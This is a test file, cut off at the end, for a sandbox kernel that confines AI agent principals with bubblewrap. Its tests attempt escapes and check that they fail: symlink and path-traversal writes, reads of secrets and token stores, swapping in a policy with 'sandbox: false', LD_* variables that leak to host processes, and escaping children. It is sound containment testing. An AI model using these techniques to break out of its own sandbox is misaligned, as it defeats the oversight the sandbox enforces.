/**
 * Token principals inside the bubblewrap sandbox, through the real kernel on its socket: the
 * second wall holds what the static policy check cannot see (SPEC §7.8, P-SBX-1..5).
 */
import assert from "node:assert/strict";
import type { RpcConnection } from "../../../src/protocol/rpc_client.ts";
import { exec } from "../../_support/exec.ts";
import { startKernel, type TestKernel } from "../../_support/kernel.ts";
import { HOST_SANDBOX, hostTest, NEEDS_TIER_B } from "../../_support/host.ts";
import {
  createToken,
  dirAgent,
  LOCAL_HUMAN,
  PROJECT_AGENT,
  writePolicy,
} from "../../_support/principals.ts";
import {
  commandLine,
  groupMembers,
  isBwrapCommand,
  liveChildren,
  parentPid,
  processGroup,
  processLive,
  psField,
  sessionMembers,
} from "../../_support/proc.ts";
import type { Rec } from "../../_support/rec.ts";
import { rpcError } from "../../_support/rejection.ts";
import { pidsMentioning, type Sandbox, sandbox } from "../../_support/sandbox.ts";
import { withTcpListener } from "../../_support/tcp_listener.ts";
import { pollUntil, waitUntil } from "../../_support/wait.ts";
import { exists } from "../../_support/paths.ts";
import { unixListener } from "../../_support/unix_listener.ts";
import { screenWhenDone } from "../../_support/pty_screen.ts";
import { hostGit } from "../../_support/git.ts";

/** An agent that may run anything (opaque: allow) but only touch its project. */
const CODER = PROJECT_AGENT;

/** A kernel whose policy holds `principals`, a token per principal, and the test's paths. */
interface World {
  k: TestKernel;
  box: Sandbox;
  home: string;
  proj: string;
  /** A file in HOME outside every grant. */
  secret: string;
  tokens: Record<string, string>;
  /** `principal` attached to session `work`, whose cwd the local human has set to the project. */
  agent(principal: string): Promise<RpcConnection>;
}

/**
 * Runs `body` in a {@link World} whose policy holds `principals` (or what it gives for the test's
 * sandbox).
 */
async function world(
  principals: Rec | ((box: Sandbox) => Rec),
  body: (w: World) => Promise<void>,
): Promise<void> {
  const box = await sandbox();
  if (typeof principals === "function") principals = principals(box);
  const home = `${box.dir}/home`;
  const proj = `${home}/proj`;
  const secret = `${home}/secret`;
  await Deno.mkdir(proj);
  await Deno.writeTextFile(secret, "s3cret\n");
  const tokens: Record<string, string> = {};
  for (const p of Object.keys(principals)) tokens[p] = (await createToken(box, p, p)).secret;
  let k: TestKernel | undefined;
  try {
    k = await startKernel(["--policy", await writePolicy(box, principals)], box);
    const human = await k.attach("work");
    await exec(human, `cd ${proj}`);
    const kernel = k;
    await body({
      k,
      box,
      home,
      proj,
      secret,
      tokens,
      agent: (p) => kernel.attach("work", tokens[p]),
    });
  } finally {
    if (k) await k.cleanup();
    else await box.cleanup();
  }
}

/** The outcome of `src` run in value position. */
async function run(conn: RpcConnection, src: string): Promise<Rec> {
  return (await exec(conn, src, { position: "value" })).value as Rec;
}

/** The text of a `str` wire value. */
function text(value: unknown): string {
  return ((value as Rec).v as string) ?? "";
}

Deno.test("a token principal is sandboxed by default where tier B is available: caps say so (tier D and not enforced elsewhere); the local human's never", async () => {
  const tier = HOST_SANDBOX.tier;
  const box = await sandbox();
  try {
    const { secret } = await createToken(box, "agent:d", "d");
    // written by hand: writePolicy would add "sandbox": false
    await Deno.writeTextFile(`${box.dir}/leash.jsonc`, `{"principal": {"agent:d": {}}}`);
    const k = await startKernel(["--policy", `${box.dir}/leash.jsonc`], box);
    const conn = await k.connect();
    const agent = await conn.request("session.attach", { token: secret }) as Rec;
    assert.deepEqual(
      [(agent.caps as Rec).tier, (agent.caps as Rec).available_tier, (agent.caps as Rec).enforced],
      [tier, tier, tier === "B"],
    );
    assert.equal(agent.caps_enforced, tier === "B");
    const human = await conn.request("session.attach", {}) as Rec;
    assert.equal(human.principal, LOCAL_HUMAN);
    assert.deepEqual(
      [(human.caps as Rec).tier, (human.caps as Rec).available_tier, (human.caps as Rec).enforced],
      ["D", tier, false],
    );
    assert.equal(human.caps_enforced, false);
    await k.cleanup();
  } catch (e) {
    await box.cleanup();
    throw e;
  }
});

hostTest(
  "writes and deletes outside the write roots fail however the agent tries",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      const inside = await run(agent, "python3 -c \"open('made', 'w').write('ok')\" && cat made");
      assert.equal(inside.ok, true, text(inside.err));
      assert.equal(await Deno.readTextFile(`${w.proj}/made`), "ok");
      const escapes: [string, string][] = [
        [`python3 -c "open('${w.home}/py', 'w').write('x')"`, `${w.home}/py`],
        [`eval "echo x > ${w.home}/ev"`, `${w.home}/ev`],
        [
          `printf 'echo x > ${w.box.dir}/script-out\\n' > s.sh; bash s.sh`,
          `${w.box.dir}/script-out`,
        ],
        [`ln -s ${w.home} link; bash -c 'echo x > link/via-link'`, `${w.home}/via-link`],
        [`bash -c 'echo x > ../dotdot'`, `${w.home}/dotdot`],
      ];
      for (const [src, target] of escapes) {
        const r = await run(agent, src);
        assert.equal(r.ok, false, `${src} must fail`);
        assert.match(
          text(r.err),
          /Read-only file system|No such file or directory|Permission denied/,
          src,
        );
        assert.equal(exists(target), false, `${target} must not exist`);
      }
      assert.equal(await Deno.readLink(`${w.proj}/link`), w.home, "the planted link is real");
      const rm = await run(agent, `python3 -c "import os; os.remove('${w.secret}')"`);
      assert.equal(rm.ok, false);
      assert.equal(await Deno.readTextFile(w.secret), "s3cret\n");
    });
  },
);

hostTest(
  "the scratch directory takes no symlink for the kernel to follow on the host; state still persists",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      // The kernel reads and empties a run's `state` dump on the host after the run: a link planted
      // there (or a directory swapped for one) would make it read and truncate a host file.
      const plants = [
        `ln -sf ${w.secret} "$__shoal_dir/state"`,
        `ln -s ${w.secret} "$__shoal_dir/new"`,
        `mv "$__shoal_dir" "$__shoal_dir.away"`,
        `rm -f "$__shoal_dir/src"`,
      ];
      const results = [];
      for (const src of plants) results.push(await run(agent, src));
      // a dump larger than a FIFO holds (64 KiB) arrives whole
      await run(agent, "export KEPT=yes; printf -v BIG '%300000s' x");
      assert.equal(text((await run(agent, "echo $KEPT ${#BIG}")).out), "yes 300000\n");
      assert.equal(await Deno.readTextFile(w.secret), "s3cret\n");
      for (const [i, r] of results.entries()) {
        assert.equal(r.ok, false, `${plants[i]} must fail`);
        assert.match(text(r.err), /Read-only file system/, plants[i]);
      }
    });
  },
);

hostTest("HOME and ungranted paths cannot be read", NEEDS_TIER_B, async () => {
  await world({ "agent:c": CODER }, async (w) => {
    const agent = await w.agent("agent:c");
    const secret = await run(agent, `python3 -c "print(open('${w.secret}').read())"`);
    assert.equal(secret.ok, false);
    assert.match(text(secret.err), /No such file or directory/);
    const home = await run(agent, `bash -c 'ls -A ${w.home}'`);
    // the granted project, and what the sandbox makes: its own tool caches and git's excludes
    assert.equal(text(home.out), ".cache\n.config\n.npm\nproj\n", "HOME shows nothing of its own");
    const box = await run(agent, `bash -c 'ls ${w.box.dir}/state'`);
    assert.equal(box.ok, false);
  });
});

hostTest(
  "the kernel socket, tokens.json and journal.db are invisible even under a wide read grant",
  NEEDS_TIER_B,
  async () => {
    const wide = { ...CODER, fs: { ...CODER.fs, read: ["/**", `${"~"}/../**`] } };
    await world({ "agent:w": wide }, async (w) => {
      const agent = await w.agent("agent:w");
      const state = `${w.box.dir}/state/shoal`;
      assert.ok(exists(`${state}/tokens.json`) && exists(`${state}/journal.db`));
      assert.ok(exists(w.k.socket));
      const sockets = w.k.socket.replace(/\/[^/]*$/, "");
      const seen = await run(
        agent,
        `bash -c 'cat ${w.secret}; ls -A ${state}; ls -A ${sockets}; ` +
          `cat ${state}/tokens.json; ls ${state}/journal.db'`,
      );
      assert.equal(text(seen.out), "s3cret\n", "HOME is granted; state and socket dirs show empty");
      assert.match(text(seen.err), /tokens.json: No such file or directory/);
      assert.match(text(seen.err), /journal.db': No such file or directory/);
      // the socket is not there to connect to (nor could a Unix socket be made, P-SBX-3)
      const connect = await run(
        agent,
        `python3 -c "import os; print(os.path.exists('${w.k.socket}'))"`,
      );
      assert.equal(text(connect.out), "False\n", text(connect.err));
      const policy = await run(agent, `bash -c 'cat ${w.box.dir}/leash.jsonc'`);
      assert.equal(policy.ok, false);
      assert.equal(text(policy.out), "", "the policy file cannot be read");
    });
  },
);

hostTest(
  "P-SBX-3 under a write grant covering them, the policy file, state and socket directories cannot be moved aside and made anew: the agent would write its own policy (sandbox: false) and run unconfined",
  NEEDS_TIER_B,
  async () => {
    const box = await sandbox();
    // a policy in a directory of the write root, as ~/.config/shoal/leash.jsonc under a grant of
    // ~/.config; the state directory and the socket directory lie in the write root too
    const policy = `${box.dir}/cfg/shoal/leash.jsonc`;
    const agentEntry = { ...CODER, fs: { read: [`${box.dir}/**`], write: [`${box.dir}/**`] } };
    await writePolicy(policy, { "agent:c": agentEntry });
    const original = await Deno.readTextFile(policy);
    const { secret } = await createToken(box, "agent:c", "c");
    const k = await startKernel(["--policy", policy], box);
    try {
      const proj = `${box.dir}/home/proj`;
      await Deno.mkdir(proj);
      const human = await k.attach("work");
      await exec(human, `cd ${proj}`);
      const agent = await k.attach("work", secret);
      const evil = JSON.stringify({
        principal: { "agent:c": { ...agentEntry, fs: { read: ["/**"] }, sandbox: false } },
      });
      await Deno.writeTextFile(`${proj}/evil.json`, evil);
      const sockets = k.socket.slice(0, k.socket.lastIndexOf("/"));
      const moves = [
        `${box.dir}/cfg/shoal`,
        `${box.dir}/cfg`,
        `${box.dir}/state`,
        `${box.dir}/run`,
      ];
      // through python: the sandbox is the wall under test, not the static layer
      await Deno.writeTextFile(
        `${proj}/move.py`,
        `import os, shutil
for d in ${JSON.stringify(moves)}:
    try:
        os.rename(d, d + ".moved")
        print("moved", d)
    except OSError as e:
        print("kept", d, e.strerror)
os.makedirs("${box.dir}/cfg/shoal", exist_ok=True)
shutil.copy("evil.json", "${policy}")
`,
      );
      const r = await run(agent, "python3 move.py");
      const out = text(r.out);
      for (const dir of moves) assert.match(out, new RegExp(`kept ${dir} `), text(r.err));
      assert.equal(await Deno.readTextFile(policy), original, "the host's policy file is the same");
      assert.ok(exists(`${box.dir}/state/shoal/tokens.json`) && exists(k.socket), sockets);
      // still confined: the kernel's state stays hidden from the agent's next exec
      const after = await run(
        await k.attach("work", secret),
        `cat ${box.dir}/state/shoal/tokens.json`,
      );
      assert.equal(after.ok, false, text(after.out));
    } finally {
      await k.cleanup();
    }
  },
);

hostTest(
  "a raw TCP connect fails without a net grant and with a grant naming no loopback port; a grant naming the port forwards it (P-NET-1)",
  NEEDS_TIER_B,
  async () => {
    const netted = { ...CODER, net_connect: ["127.0.0.1:*"] };
    await world({ "agent:c": CODER, "agent:n": netted }, async (w) => {
      await withTcpListener(async (port) => {
        const src =
          `python3 -c "import socket; socket.create_connection(('127.0.0.1', ${port}), 5); print('up')"`;
        const cut = await run(await w.agent("agent:c"), src);
        assert.equal(cut.ok, false);
        assert.match(text(cut.err), /Connection refused|unreachable/);
        const proxied = await run(await w.agent("agent:n"), src);
        assert.equal(proxied.ok, false);
        assert.match(text(proxied.err), /Connection refused|unreachable/);
      });
    });
  },
);

hostTest("a PTY program of a sandboxed agent is confined the same way", NEEDS_TIER_B, async () => {
  await world({ "agent:c": CODER }, async (w) => {
    const agent = await w.agent("agent:c");
    const script = `echo x > ${w.home}/pty-out; echo in > inside; echo "done $?"; sleep 30`;
    const opened = await agent.request("pty.open", { cmd: "bash", args: ["-c", script] }) as Rec;
    const screen = await screenWhenDone(agent, opened.pty_id);
    assert.match(screen.join(""), /Read-only file system|No such file|Permission denied/);
    assert.equal(exists(`${w.home}/pty-out`), false);
    assert.equal(await Deno.readTextFile(`${w.proj}/inside`), "in\n");
    const members = groupMembers(opened.pid as number);
    assert.ok(members.length >= 3, "bwrap, its init, bash and sleep share the group");
    await agent.request("pty.close", { pty_id: opened.pty_id });
    assert.ok(await waitUntil(() => members.every((pid) => !processLive(pid)), 10000));
  });
});

hostTest(
  "P-SBX-4/K-PTY-12 Ctrl-C in a sandboxed agent's python3 REPL interrupts the statement, as in the human's, instead of ending the terminal: the interrupt reached bwrap too, whose death took the sandbox with it (found by probe18)",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      const opened = await agent.request("pty.open", { cmd: "python3", args: ["-q"] }) as Rec;
      const id = opened.pty_id;
      const screenOf = () => agent.request("pty.read", { pty_id: id }) as Promise<Rec>;
      const rows = (r: Rec) => r.screen as string[];
      try {
        await pollUntil(screenOf, (r) => rows(r)[0].startsWith(">>>"));
        const line = "import time; print('sleeping'); time.sleep(100)";
        await agent.request("pty.send", { pty_id: id, input: [line, { key: "Enter" }] });
        // python's handler is in place before it prints: the interrupt cannot come too early
        await pollUntil(screenOf, (r) => rows(r).includes("sleeping"));
        await agent.request("pty.send", { pty_id: id, input: { key: "Ctrl-C" } });
        const after = await pollUntil(
          screenOf,
          (r) => rows(r).includes("KeyboardInterrupt") || r.alive === false,
        );
        assert.equal(after.alive, true, `the terminal ended: ${JSON.stringify(after.exit)}`);
        await agent.request("pty.send", { pty_id: id, input: ["print(6*7)", { key: "Enter" }] });
        await pollUntil(screenOf, (r) => rows(r).includes("42"));
      } finally {
        await agent.request("pty.close", { pty_id: id });
      }
    });
  },
);

hostTest(
  "P-SBX-4/K-PTY-3 a sandboxed agent's PTY reports how its program ended as the human's does: killed by SIGTERM is signal SIGTERM, not status 143, and exit 143 stays status 143 (found by probe18: bwrap folds a signal into 128 + its number)",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const human = await w.k.attach("work");
      const agent = await w.agent("agent:c");
      const exitOf = async (conn: RpcConnection, script: string) => {
        const opened = await conn.request("pty.open", { cmd: "sh", args: ["-c", script] }) as Rec;
        try {
          const end = await pollUntil(
            () => conn.request("pty.read", { pty_id: opened.pty_id }) as Promise<Rec>,
            (r) => r.alive === false,
          );
          return end.exit;
        } finally {
          await conn.request("pty.close", { pty_id: opened.pty_id });
        }
      };
      // the agent's perl settings are its program's, not the waiter's: -d would stop it in perl's debugger
      const env = { PERL5OPT: "-d" };
      const opened = await agent.request("pty.open", {
        cmd: "sh",
        args: ["-c", "exit 4"],
        env,
      }) as Rec;
      const ended = await pollUntil(
        () => agent.request("pty.read", { pty_id: opened.pty_id }) as Promise<Rec>,
        (r) => r.alive === false,
      );
      assert.deepEqual(
        ended.exit,
        { status: 4, signal: null },
        (ended.screen as string[]).join("\n"),
      );
      await agent.request("pty.close", { pty_id: opened.pty_id });
      for (
        const [script, exit] of [
          ["kill -TERM $$", { status: null, signal: "SIGTERM" }],
          ["exit 143", { status: 143, signal: null }],
          ["exit 3", { status: 3, signal: null }],
        ] as const
      ) {
        assert.deepEqual(await exitOf(human, script), exit, `the human's ${script}`);
        assert.deepEqual(await exitOf(agent, script), exit, `the agent's ${script}`);
      }
    });
  },
);

hostTest(
  "K-PTY-5/P-SBX-4 closing a sandboxed agent's PTY hangs up its program with the grace the human's gets: its SIGHUP handler runs to its end and the close reports the exit it chose (found by probe18: the hangup ended bwrap at once and the sandbox with it, and the close said signal SIGHUP)",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const human = await w.k.attach("work");
      const agent = await w.agent("agent:c");
      for (const [who, conn] of [["human", human], ["agent", agent]] as const) {
        const saved = `${w.proj}/saved-${who}`;
        // read -t: bash runs a trap between commands, and a SIGHUP that came just before a
        // plain read(2) began waited for input that never came, past the 500 ms grace
        const script = `trap 'echo saved > ${saved}; exit 0' HUP; echo ready; ` +
          "while :; do read -r -t 0.1 x; done";
        const opened = await conn.request("pty.open", { cmd: "bash", args: ["-c", script] }) as Rec;
        await pollUntil(
          () => conn.request("pty.read", { pty_id: opened.pty_id }) as Promise<Rec>,
          (r) => (r.screen as string[]).includes("ready"),
        );
        const closed = await conn.request("pty.close", { pty_id: opened.pty_id }) as Rec;
        assert.deepEqual(closed.exit, { status: 0, signal: null }, `the ${who}'s close`);
        assert.equal(await Deno.readTextFile(saved), "saved\n", `the ${who}'s handler ran`);
      }
    });
  },
);

hostTest(
  "P-SBX-3 a sandboxed PTY's loader variables (LD_PRELOAD, LD_DEBUG_OUTPUT …) reach its program inside, never the host processes that start the sandbox: a preloaded library of the agent's ran there, on the host, as the human",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      // The loader writes LD_DEBUG_OUTPUT.<pid> for every program it starts with LD_DEBUG set: a
      // file there, outside every grant, was written by a program running on the host. (With
      // LD_PRELOAD naming a library of the agent's, that program ran the agent's code.)
      const out = `${w.box.dir}/loader`;
      const opened = await agent.request("pty.open", {
        cmd: "sh",
        args: ["-c", 'echo "[$LD_DEBUG_OUTPUT]"; sleep 30'],
        env: { LD_DEBUG: "files", LD_DEBUG_OUTPUT: out },
      }) as Rec;
      let screen: string[] = [];
      const shown = await waitUntil(async () => {
        screen = (await agent.request("pty.read", { pty_id: opened.pty_id }) as Rec)
          .screen as string[];
        return screen.some((row) => row.includes(`[${out}]`));
      }, 10000);
      assert.ok(shown, `the program inside has the variables: ${screen.join("\n")}`);
      const written = [...Deno.readDirSync(w.box.dir)].filter((e) => e.name.startsWith("loader"));
      assert.deepEqual(written.map((e) => e.name), [], "a host program honoured the agent's LD_*");
      await agent.request("pty.close", { pty_id: opened.pty_id });
    });
  },
);

hostTest(
  "K-PTY-1 a sandboxed agent's pty.open answers alike for a host program outside its grants and a missing one: it cannot probe which files exist where it may not read",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const tool = `${w.home}/tool`;
      await Deno.writeTextFile(tool, "#!/bin/sh\necho tool\n");
      await Deno.chmod(tool, 0o755);
      await Deno.copyFile(tool, `${w.proj}/tool`);
      await Deno.chmod(`${w.proj}/tool`, 0o755);
      const agent = await w.agent("agent:c");
      const answer = async (cmd: string, env: Rec = {}) => {
        const e = await rpcError(agent.request("pty.open", { cmd, env }));
        return [e.code, e.message.replace(cmd, "CMD")];
      };
      const missing = await answer(`${w.home}/nothing`);
      assert.deepEqual(missing, [-32023, "cannot start CMD on a pty: program not found"]);
      assert.deepEqual(await answer(tool), missing, "by path");
      assert.deepEqual(await answer("../tool"), missing, "by a relative path");
      assert.deepEqual(await answer("tool", { PATH: w.home }), missing, "by PATH");
      // the program it may run still starts
      const opened = await agent.request("pty.open", { cmd: "./tool" }) as Rec;
      let screen: string[] = [];
      assert.ok(
        await waitUntil(async () => {
          screen = (await agent.request("pty.read", { pty_id: opened.pty_id }) as Rec)
            .screen as string[];
          return screen[0] === "tool";
        }, 10000),
        screen.join("\n"),
      );
      await agent.request("pty.close", { pty_id: opened.pty_id });
    });
  },
);

/** Starts `src` as a task; returns its id and the live processes of its group once there are `n`. */
async function startTask(agent: RpcConnection, src: string, n: number) {
  const r = await exec(agent, src, { async: true });
  const task = r.task as string;
  let members: number[] = [];
  let pid = 0;
  const started = await waitUntil(async () => {
    const rec = await agent.request("task.get", { task }) as Rec;
    if (typeof rec.pid !== "number") return false;
    pid = rec.pid;
    members = groupMembers(pid);
    return members.length >= n;
  }, 10000);
  assert.ok(started, `${task} did not start ${n} processes`);
  return { task, members, pid };
}

/** The state letter of `pid` (`ps` stat), or "gone". */
function procState(pid: number): string {
  return psField(pid, "stat")?.[0] ?? "gone";
}

hostTest(
  "suspended and cancelled sandboxed tasks stop and leave no process",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      // bash and two sleeps
      const { task, members } = await startTask(agent, "sleep 300 & sleep 300; wait", 3);
      assert.equal((await agent.request("task.suspend", { task }) as Rec).state, "suspended");
      assert.ok(
        await waitUntil(
          () => members.every((pid) => ["T", "gone"].includes(procState(pid))),
          10000,
        ),
        `every process stops: ${members.map(procState)}`,
      );
      await agent.request("task.cancel", { task });
      assert.ok(await waitUntil(() => members.every((pid) => !processLive(pid)), 10000));
      const state = async () => (await agent.request("task.get", { task }) as Rec).state;
      assert.ok(await waitUntil(async () => await state() === "cancelled", 10000));

      const second = await startTask(agent, "sleep 300 & sleep 300; wait", 3);
      await agent.request("task.cancel", { task: second.task });
      assert.ok(await waitUntil(() => second.members.every((pid) => !processLive(pid)), 10000));
    });
  },
);

hostTest(
  "a suspended sandboxed task stops also what job control moved to process groups of their own (P-SBX-4)",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      // set -m: each job, the foreground one too, leads a process group of its own
      const { task, pid } = await startTask(agent, "set -m; sleep 300 & sleep 300; wait", 1);
      let members: number[] = [];
      assert.ok(await waitUntil(() => (members = sessionMembers(pid)).length >= 3, 10000));
      assert.ok(members.some((p) => processGroup(p) !== pid), "no job in a group of its own");
      assert.equal((await agent.request("task.suspend", { task }) as Rec).state, "suspended");
      assert.ok(
        await waitUntil(
          () => members.every((p) => ["T", "gone"].includes(procState(p))),
          10000,
        ),
        `every process stops: ${members.map(procState)}`,
      );
      await agent.request("task.cancel", { task });
      assert.ok(await waitUntil(() => members.every((p) => !processLive(p)), 10000));
    });
  },
);

hostTest(
  "a suspended sandboxed task stops also a child that started a session of its own (P-SBX-4)",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      const { task, pid } = await startTask(agent, "setsid sleep 300 & sleep 300; wait", 2);
      // the task's pid may be bash's or that of the entry bash runs below: two levels down
      const descendants = () =>
        liveChildren(pid).flatMap((c) => [c.pid, ...liveChildren(c.pid).map((g) => g.pid)]);
      let escaped: number[] = [];
      assert.ok(
        await waitUntil(
          () =>
            (escaped = descendants().filter((p) => psField(p, "sess") !== String(pid))).length ===
              1,
          10000,
        ),
        "no descendant in a session of its own",
      );
      assert.equal((await agent.request("task.suspend", { task }) as Rec).state, "suspended");
      assert.ok(
        await waitUntil(() => ["T", "gone"].includes(procState(escaped[0])), 10000),
        `the setsid child stops: ${procState(escaped[0])}`,
      );
      await agent.request("task.cancel", { task });
      assert.ok(await waitUntil(() => !processLive(escaped[0]), 10000));
    });
  },
);

Deno.test("the local human and a sandbox:false principal are not confined", async () => {
  await world({ "agent:free": { ...CODER, sandbox: false } }, async (w) => {
    const free = await w.agent("agent:free");
    const caps = await free.request("session.attach", {
      session: "work",
      token: w.tokens["agent:free"],
    }) as Rec;
    assert.equal((caps.caps as Rec).tier, "D");
    assert.equal(caps.caps_enforced, false);
    const r = await run(free, `python3 -c "open('${w.home}/free', 'w').write('x')"`);
    assert.equal(r.ok, true, text(r.err));
    assert.equal(exists(`${w.home}/free`), true);
    const human = await w.k.attach("work");
    const h = await run(human, `echo y > ${w.home}/human && cat ${w.secret}`);
    assert.equal(text(h.out), "s3cret\n");
    assert.equal(exists(`${w.home}/human`), true);
  });
});

hostTest(
  "a cwd outside the sandbox is refused, naming what moves it back in reach (M-ONB-3); a hermetic principal runs inside it",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER, "agent:h": { ...CODER, hermetic: true } }, async (w) => {
      const other = await w.k.attach("elsewhere", w.tokens["agent:c"]);
      const e = await rpcError(exec(other, "true"));
      assert.equal(e.code, -32010);
      assert.equal((e.data as Rec).reason, "cwd_outside_sandbox");
      assert.match(e.message, /must first move into a directory the sandbox shows/);
      const pty = await rpcError(other.request("pty.open", { cmd: "true" }));
      assert.equal((pty.data as Rec).reason, "cwd_outside_sandbox");
      assert.deepEqual(await other.request("journal.query", {}), [], "nothing ran");
      const hermetic = await run(await w.agent("agent:h"), "echo sealed");
      assert.equal(text(hermetic.out), "sealed\n");
    });
  },
);

hostTest(
  "shell state persists between sandboxed execs; the outcome pid leads the run's group",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      await run(agent, "mkdir -p sub && cd sub && export GREETING=hi && f() { echo fn; } && X=1");
      const r = await run(agent, 'pwd; echo "$GREETING $X"; f');
      assert.equal(text(r.out), `${w.proj}/sub\nhi 1\nfn\n`);
      const { members, pid } = await startTask(agent, "sleep 300", 2);
      assert.ok(members.includes(pid), "the reported pid is a live host process of the group");
      assert.equal(processGroup(pid), pid, "it leads the group");
      Deno.kill(-pid, "SIGKILL");
      assert.ok(await waitUntil(() => members.every((p) => !processLive(p)), 10000));
    });
  },
);

hostTest(
  "a run of an approved plan also sees the parent directory of an approved write",
  NEEDS_TIER_B,
  async () => {
    // ~/out.txt is granted but does not exist yet, so no everyday view shows where it would go
    const asker = {
      ...CODER,
      fs: { ...CODER.fs, write: [...CODER.fs.write, "~/out.txt"] },
      auto_apply: "never",
    };
    const doer = { ...asker, auto_apply: "in-grant" };
    await world({ "agent:p": asker, "agent:q": doer }, async (w) => {
      const src = `echo hi > ${w.home}/out.txt`;
      const unapproved = await run(await w.agent("agent:q"), src);
      assert.equal(unapproved.ok, false, "without an approval the view has no place for the file");
      assert.match(text(unapproved.err), /Read-only file system|No such file|Permission denied/);
      const agent = await w.agent("agent:p");
      const asked = await rpcError(exec(agent, src));
      assert.equal(asked.code, -32011);
      const planRef = (asked.data as Rec).plan_ref as string;
      const human = await w.k.attach("work");
      const granted = await human.request("approval.grant", { plan_ref: planRef }) as Rec;
      assert.equal(granted.enforced, true, "the approved plan runs in the sandbox");
      const applied = await agent.request("plan.apply", { plan_ref: planRef, position: "value" });
      const outcome = (applied as Rec).value as Rec;
      assert.equal(outcome.ok, true, text(outcome.err));
      assert.equal(await Deno.readTextFile(`${w.home}/out.txt`), "hi\n");
    });
  },
);

/**
 * The kernel's warm shells (issue 10/12): bashes started with the driver's `warm` argument, each
 * with whether it is sandboxed: started by a resident's launcher, or entering one through nsenter
 * (the kernel's child then, as a bare unconfined bash is).
 */
function warmShells(k: TestKernel): { pid: number; sandboxed: boolean }[] {
  const launched = residents(k).flatMap(withDescendants)
    .filter((pid) => commandLine(pid)?.endsWith(" warm"))
    .map((pid) => ({ pid, sandboxed: true }));
  return liveChildren(k.child.pid).filter((c) => c.command.endsWith(" warm"))
    .map((c) => ({ pid: c.pid, sandboxed: c.command.split(" ")[0].endsWith("/nsenter") }))
    .concat(launched);
}

/** The one warm shell of the world's kernel once it is there, and whether it is sandboxed. */
async function nextWarm(k: TestKernel, sandboxed: boolean): Promise<number> {
  const shells = await pollUntil(
    () => Promise.resolve(warmShells(k)),
    (s) => s.length === 1 && s[0].sandboxed === sandboxed,
  );
  return shells[0].pid;
}

hostTest(
  "a sandboxed agent's consecutive execs run on warm shells confined exactly as a cold run",
  NEEDS_TIER_B,
  async () => {
    await world({ "agent:c": CODER }, async (w) => {
      const agent = await w.agent("agent:c");
      const socket = w.box.socket();
      for (let i = 0; i < 3; i++) {
        const warm = await nextWarm(w.k, true);
        if (HOST_SANDBOX.tier === "B" && HOST_SANDBOX.cc !== null) {
          // the kernel compiled its launcher in C: that started the shell
          assert.equal(commandLine(parentPid(warm)), "/dev/shoal/launcher");
        }
        const r = await run(
          agent,
          `echo in > inside-${i}; python3 -c "open('${w.home}/py-${i}', 'w').write('x')"`,
        );
        assert.equal(r.pid, warm, "the exec ran on the warm shell");
        assert.equal(r.ok, false, "a write outside the write roots fails");
        assert.match(
          text(r.err),
          /Read-only file system|No such file or directory|Permission denied/,
        );
        assert.equal(exists(`${w.home}/py-${i}`), false);
        assert.equal(await Deno.readTextFile(`${w.proj}/inside-${i}`), "in\n");
        const next = await nextWarm(w.k, true);
        const s = await run(
          agent,
          `bash -c 'test -e ${socket} && echo visible || echo hidden; cat ${w.secret}'`,
        );
        assert.equal(s.pid, next);
        assert.equal(text(s.out), "hidden\n", "the kernel socket is invisible");
        assert.equal(s.ok, false, "HOME is not readable");
      }
    });
  },
);

hostTest(
  "a warm shell never serves a run of another sandbox: other principal, unconfined, changed view",
  NEEDS_TIER_B,
  async () => {
    const wider = { ...CODER, fs: { ...CODER.fs, write: [...CODER.fs.write, "~/later/**"] } };
    await world({ "agent:c": CODER, "agent:l": wider }, async (w) => {
      const human = await w.k.attach("work");
      const agent = await w.agent("agent:c");
      const confined = await nextWarm(w.k, true);
      const h = await run(human, `echo y > ${w.home}/by-human`);
      assert.notEqual(h.pid, confined, "the local human never runs in the agent's sandbox");
      assert.equal(h.ok, true, text(h.err));
      assert.ok(await waitUntil(() => !processLive(confined), 10000), "the agent's shell is gone");
      const free = await nextWarm(w.k, false);
      const a = await run(agent, `python3 -c "open('${w.home}/by-agent', 'w')"`);
      assert.notEqual(a.pid, free, "the agent never runs on the human's unconfined shell");
      assert.equal(a.ok, false);
      assert.equal(exists(`${w.home}/by-agent`), false);
      assert.ok(await waitUntil(() => !processLive(free), 10000));

      // agent:l may write ~/later, which does not exist yet: its view binds it once it does.
      const later = await w.agent("agent:l");
      const before = await nextWarm(w.k, true);
      await Deno.mkdir(`${w.home}/later`);
      const l = await run(later, `echo z > ${w.home}/later/f`);
      assert.notEqual(l.pid, before, "a view that changed since the prepare discards the shell");
      assert.equal(l.ok, true, text(l.err));
      assert.equal(await Deno.readTextFile(`${w.home}/later/f`), "z\n");
      const c = await run(agent, `python3 -c "open('${w.home}/later/g', 'w')"`);
      assert.equal(c.ok, false, "agent:c never runs on agent:l's shell");
      assert.equal(exists(`${w.home}/later/g`), false);
    });
  },
);

/** The resident sandboxes (bwrap processes) the world's kernel runs now. */
function residents(k: TestKernel): number[] {
  return liveChildren(k.child.pid).filter((c) => isBwrapCommand(c.command))
    .map((c) => c.pid);
}

/** `pid` and every live process below it. */
function withDescendants(pid: number): number[] {
  const found = [pid];
  for (let i = 0; i < found.length; i++) {
    found.push(...liveChildren(found[i]).map((c) => c.pid));
  }
  return found;
}

/** The one resident sandbox of the world's kernel once it is the only one. */
async function soleResident(k: TestKernel): Promise<number> {
